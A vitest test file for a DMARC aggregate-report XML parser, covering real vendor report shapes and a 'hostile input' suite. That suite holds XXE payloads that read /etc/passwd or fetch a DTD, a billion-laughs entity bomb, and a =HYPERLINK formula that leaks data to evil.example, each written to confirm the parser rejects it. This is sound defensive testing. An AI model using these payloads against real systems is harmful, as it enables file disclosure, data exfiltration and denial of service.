import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseDmarcAggregate } from "@/lib/ingest/dmarc";
import { INGEST_LIMITS } from "@/lib/ingest/limits";
import { dmarcXml } from "@/tests/helpers/ingest-fixtures";

const parsed = (xml: string | Buffer) => {
  const result = parseDmarcAggregate(xml);
  if (!result.ok) throw new Error(result.error);
  return result.report;
};

describe("parseDmarcAggregate: real-shaped reports", () => {
  it("parses an RFC 7489 Appendix C report (Google's shape: no namespace)", () => {
    const report = parsed(dmarcXml({ records: [{ ip: "192.0.2.10", count: 3 }, { ip: "2001:db8::5", count: 1, disposition: "quarantine", dkim: "fail", spf: "fail", auth: "<spf><domain>spoof.example</domain><result>softfail</result></spf>" }] }));
    expect(report).toMatchObject({
      orgName: "google.com",
      email: "noreply-dmarc-support@google.com",
      reportId: "1234567890123456789",
      rangeStart: new Date(1764979200 * 1000),
      rangeEnd: new Date(1765065599 * 1000),
      domain: "example.com",
      policyPublished: { domain: "example.com", adkim: "r", aspf: "r", p: "none", sp: "none", pct: "100" },
    });
    expect(report.records).toEqual([
      { sourceIp: "192.0.2.10", count: 3, disposition: "none", dkim: "pass", spf: "pass", headerFrom: "example.com", authResults: [{ kind: "dkim", domain: "example.com", result: "pass", selector: "s1" }, { kind: "spf", domain: "example.com", result: "pass" }] },
      { sourceIp: "2001:db8::5", count: 1, disposition: "quarantine", dkim: "fail", spf: "fail", headerFrom: "example.com", authResults: [{ kind: "spf", domain: "spoof.example", result: "softfail" }] },
    ]);
  });

  it("parses the RFC 9990 namespace and its new fields (np, testing, discovery_method, generator)", () => {
    const xml = dmarcXml({
      rootOpen: '<feedback xmlns="urn:ietf:params:xml:ns:dmarc-2.0">',
      policyExtra: "<np>reject</np><testing>n</testing><discovery_method>treewalk</discovery_method>",
      extra: "\n  <extension><vendor:thing xmlns:vendor=\"urn:x\">1</vendor:thing></extension>",
    }).replace("<email>", "<generator>Example MTA 2.1</generator><email>");
    const report = parsed(xml);
    expect(report.policyPublished).toMatchObject({ np: "reject", testing: "n", discovery_method: "treewalk", p: "none" });
    expect(report.records).toHaveLength(1);
  });

  it("matches elements by local name, so a namespace prefix reads the same", () => {
    const xml = dmarcXml()
      .replace("<feedback>", '<dmarc:feedback xmlns:dmarc="urn:ietf:params:xml:ns:dmarc-2.0">')
      .replace("</feedback>", "</dmarc:feedback>")
      .replace(/<(\/?)(report_metadata|org_name|record|row)>/g, "<$1dmarc:$2>");
    expect(parsed(xml)).toMatchObject({ orgName: "google.com", records: [{ sourceIp: "192.0.2.10" }] });
  });

  it("parses Microsoft's shape: xsi/xsd attributes, <version>, envelope_to/envelope_from, and a record with several DKIM results", () => {
    const xml = dmarcXml({
      org: "Enterprise Outlook",
      rootOpen: '<feedback xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">\n  <version>1.0</version>',
      records: [{ ip: "198.51.100.7", count: 12, auth: "<dkim><domain>example.com</domain><selector>selector1</selector><result>pass</result></dkim><dkim><domain>esp.example</domain><selector>k2</selector><result>fail</result></dkim><spf><domain>bounce.esp.example</domain><scope>mfrom</scope><result>pass</result></spf>" }],
    }).replace("<header_from>example.com</header_from>", "<envelope_to>contoso.example</envelope_to><envelope_from>bounce.esp.example</envelope_from><header_from>example.com</header_from>");
    const record = parsed(xml).records[0]!;
    expect(record).toMatchObject({ envelopeFrom: "bounce.esp.example", envelopeTo: "contoso.example" });
    expect(record.authResults).toEqual([
      { kind: "dkim", domain: "example.com", result: "pass", selector: "selector1" },
      { kind: "dkim", domain: "esp.example", result: "fail", selector: "k2" },
      { kind: "spf", domain: "bounce.esp.example", result: "pass" },
    ]);
  });

  it("keeps Yahoo's literal `unused` in fields and tolerates Mimecast-style stray elements and override reasons", () => {
    const xml = dmarcXml({ org: "Yahoo", policyExtra: "<fo>unused</fo>", extra: "\n  <report_metadata_extra>stray</report_metadata_extra>" })
      .replace("</policy_evaluated>", "<reason><type>forwarded</type><comment>list</comment></reason><reason><type>local_policy</type></reason></policy_evaluated>")
      .replace("<row>", "<row><unexpected_field>x</unexpected_field>");
    const report = parsed(xml);
    expect(report.policyPublished["fo"]).toBe("unused");
    expect(report.records[0]!.reasons).toEqual([{ type: "forwarded", comment: "list" }, { type: "local_policy" }]);
  });

  it("decodes the predefined entities, character references and CDATA, and a declared ISO-8859-1 encoding", () => {
    expect(parsed(dmarcXml({ org: "AT&amp;T &#x263A; &#9731;" })).orgName).toBe("AT&T ☺ ☃");
    expect(parsed(dmarcXml({ org: "<![CDATA[Mail <Co>]]>" })).orgName).toBe("Mail <Co>");
    const latin1 = Buffer.from(dmarcXml({ org: "Société", head: '<?xml version="1.0" encoding="ISO-8859-1"?>' }), "latin1");
    expect(parsed(latin1).orgName).toBe("Société");
    // A declaration that claims UTF-16 over bytes that were readable as ASCII is a lie; read UTF-8.
    expect(parsed(Buffer.from(dmarcXml({ org: "Ünïcode", head: '<?xml version="1.0" encoding="UTF-16"?>' }))).orgName).toBe("Ünïcode");
  });
});

describe("parseDmarcAggregate: hostile input", () => {
  let server: Server;
  let port = 0;
  let connections = 0;
  beforeAll(async () => {
    server = createServer((_req, res) => res.end("<!ENTITY x 'pwned'>"));
    server.on("connection", () => connections++);
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it("refuses XXE with a file:/// entity and an http://127.0.0.1 entity: nothing read, no connection made", async () => {
    for (const system of ["file:///etc/passwd", `http://127.0.0.1:${port}/evil.dtd`]) {
      const xml = `<?xml version="1.0"?>\n<!DOCTYPE feedback [ <!ENTITY xxe SYSTEM "${system}"> ]>\n${dmarcXml({ org: "&xxe;", head: "" })}`;
      const result = parseDmarcAggregate(xml);
      expect(result).toEqual({ ok: false, error: expect.stringMatching(/document type or entity declaration \(<!DOCTYPE\) is refused/) });
      expect(JSON.stringify(result)).not.toContain("root:");
    }
    const external = `<?xml version="1.0"?><!DOCTYPE feedback SYSTEM "http://127.0.0.1:${port}/x.dtd">${dmarcXml({ head: "" })}`;
    expect(parseDmarcAggregate(external).ok).toBe(false);
    // Give a stray connection attempt time to land before asserting there was none.
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(connections).toBe(0);
  });

  it("refuses billion laughs before expanding anything", () => {
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`)].join("\n");
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lol}\n]>\n${dmarcXml({ org: "&lol9;", head: "" })}`;
    const before = process.memoryUsage().heapUsed;
    expect(parseDmarcAggregate(xml)).toEqual({ ok: false, error: expect.stringMatching(/is refused/) });
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50 * 1024 * 1024);
  });

  it("refuses an entity declaration without a DOCTYPE, in any case, and any undeclared entity reference", () => {
    expect(parseDmarcAggregate(`<!entity x "y">${dmarcXml({ head: "" })}`).ok).toBe(false);
    expect(parseDmarcAggregate(dmarcXml({ org: "&xxe;" }))).toEqual({ ok: false, error: expect.stringMatching(/undeclared entity &xxe;/) });
  });

  it("keeps `=HYPERLINK(…)` org names as data and replaces NUL bytes and invalid UTF-8 for storage", () => {
    expect(parsed(dmarcXml({ org: '=HYPERLINK("http://evil.example/?"&amp;A1,"Click")' })).orgName).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
    const bytes = Buffer.from(dmarcXml({ org: "Org\u0000Name", reportId: "id-XX" }));
    const at = bytes.indexOf("id-XX") + 3;
    bytes[at] = 0xc3; // a lead byte followed by "X": invalid UTF-8
    bytes[at + 1] = 0xff;
    const report = parsed(bytes);
    expect(report.orgName).toBe("Org\uFFFDName");
    expect(report.reportId).toBe("id-\uFFFD\uFFFD");
    expect(parsed(dmarcXml({ org: "a&#0;b" })).orgName).toBe("a\uFFFDb");
  });

  it("refuses more records than maxRecords, and counts only the records it kept", () => {
    const records = Array.from({ length: 11 }, (_, i) => ({ ip: `192.0.2.${i}`, count: 1 }));
    const limits = { ...INGEST_LIMITS, maxRecords: 10 };
    expect(parseDmarcAggregate(dmarcXml({ records: records.slice(0, 10) }), limits).ok).toBe(true);
    expect(parseDmarcAggregate(dmarcXml({ records }), limits)).toEqual({ ok: false, error: "DMARC report: more than 10 records (the cap); rejected" });
  });

  it("refuses absurd nesting and floods of non-record elements instead of building them", () => {
    const deep = `<feedback>${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}</feedback>`;
    expect(parseDmarcAggregate(deep)).toEqual({ ok: false, error: expect.stringMatching(/nested deeper than/) });
    const flood = `<feedback>${"<x/>".repeat(60_000)}</feedback>`;
    expect(parseDmarcAggregate(flood)).toEqual({ ok: false, error: expect.stringMatching(/more than 50000 elements/) });
  });

  it.each([
    ["an unclosed root", dmarcXml().replace("</feedback>", ""), /document ends inside <feedback>/],
    ["mismatched tags", dmarcXml().replace("</org_name>", "</org>"), /does not match/],
    ["a second root", `${dmarcXml()}<feedback/>`, /more than one root/],
    ["another root element", "<html><body/></html>", /root element is <html>/],
    ["no metadata", dmarcXml().replace(/<report_metadata>[\s\S]*<\/report_metadata>/, ""), /<feedback> has no <report_metadata>/],
    ["a count that is not a number", dmarcXml().replace("<count>3</count>", "<count>unused</count>"), /<count> is not a whole number: "unused"/],
    ["a row without source_ip", dmarcXml().replace(/<source_ip>[^<]*<\/source_ip>/, ""), /<record> #1: <row> has no <source_ip> value/],
    ["a date that is not epoch seconds", dmarcXml().replace("<begin>1764979200</begin>", "<begin>2026-12-06</begin>"), /not a time in epoch seconds/],
    ["text outside the root", `junk${dmarcXml()}`, /text outside the root/],
  ])("refuses %s with a clear error", (_why, xml, message) => {
    const result = parseDmarcAggregate(xml);
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toMatch(message);
  });
});
